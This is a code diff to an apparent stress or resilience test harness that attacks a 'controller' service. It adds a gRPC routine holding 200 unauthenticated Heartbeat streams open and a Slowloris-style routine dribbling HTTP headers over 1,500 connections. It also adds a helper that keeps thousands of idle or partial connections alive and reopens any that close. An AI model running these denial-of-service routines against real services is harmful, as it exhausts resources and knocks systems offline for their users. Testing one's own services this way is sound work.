@@ -17,7 +17,7 @@ import sys
 import threading
 import time
 from collections import Counter
-from collections.abc import Awaitable, Callable, Sequence
+from collections.abc import Awaitable, Callable, Iterator, Sequence
 from contextlib import suppress
 from dataclasses import dataclass
 from typing import Any, Final
@@ -42,12 +42,13 @@ over = threading.Event()
 
 @dataclass(frozen=True)
 class Site:
-    """The attacker's knowledge: the controller, its job with token and number of workers, the name of another job.
+    """The attacker's knowledge: the addresses of controller and page, its own job, and the name of another job.
 
     An attack does not end before it has counted what is in `until`, however slow the machine is.
     """
 
     controller: str
+    page: str
     job: str
     token: str
     workers: int
@@ -209,17 +210,54 @@ def churn_generations(site: Site) -> None:
                 counts["generations"] += 1
 
 
+def silent_calls(site: Site) -> None:
+    """Hold 200 calls open, without a token, whose message never comes. Calls that end are made again."""
+
+    def opened(send: Any) -> Any:
+        ended = threading.Event()
+
+        def never() -> Iterator[bytes]:
+            ended.wait()
+            yield from ()
+
+        call = send.future(never())
+        call.add_done_callback(lambda _: ended.set())
+        return call
+
+    with grpc.insecure_channel(site.controller, _OPTIONS) as channel:
+        send: Any = channel.stream_unary(methods(MEMBERSHIP_SERVICE)["Heartbeat"].path)
+        calls: list[Any] = []
+        while not over.wait(0.5):
+            calls = [call for call in calls if not call.done()]
+            counts["opened"] += 200 - len(calls)
+            calls += [opened(send) for _ in range(200 - len(calls))]
+        for call in calls:
+            call.cancel()
+
+
 def connections(site: Site) -> None:
-    """Open 4,000 connections, and open each one again that is closed; every tenth sends a part of a request."""
-    host, _, port = site.controller.rpartition(":")
+    """Hold 4,000 idle connections to the service. Every tenth sends a part of a request."""
+    hold(site.controller, 4000, lambda number: b"" if number % 10 else b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"")
+
+
+def slow_readers(site: Site) -> None:
+    """Hold 1,500 connections to the controller's page, each of which sends a header a byte at a time."""
+    hold(site.page, 1500, lambda number: b"GET / HTTP/1.1\r\nX-Slow: ", b"a")
+
+
+def hold(address: str, count: int, first: Callable[[int], bytes], more: bytes) -> None:
+    """Hold connections open, each with its first bytes, and more bytes ten times a second. Closed ones come again."""
+    host, _, port = address.rpartition(":")
     opened: list[socket.socket] = []
 
     def alive(each: socket.socket) -> bool:
         try:
+            each.send(more)
             return bool(each.recv(4096))
         except BlockingIOError:
             return True
         except OSError:
+            each.close()
             return False
 
     while not over.is_set():
@@ -227,11 +265,10 @@ def connections(site: Site) -> None:
         counts["closed by the controller"] += len(opened) - len(left)
         opened = left
         counts["most at once"] = max(counts["most at once"], len(opened))
-        while len(opened) < 4000 and not over.is_set():
+        while len(opened) < count and not over.is_set():
             try:
                 made = socket.create_connection((host, int(port)), timeout=1)
-                if counts["opened"] % 10 == 0:
-                    made.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
+                made.send(first(counts["opened"]))
             except OSError:
                 counts["refused"] += 1
                 break
@@ -311,7 +348,9 @@ ATTACKS: Final = {
         giants,
         odd_values,
         churn_generations,
+        silent_calls,
         connections,
+        slow_readers,
         forged,
         flood_datagrams,
     )
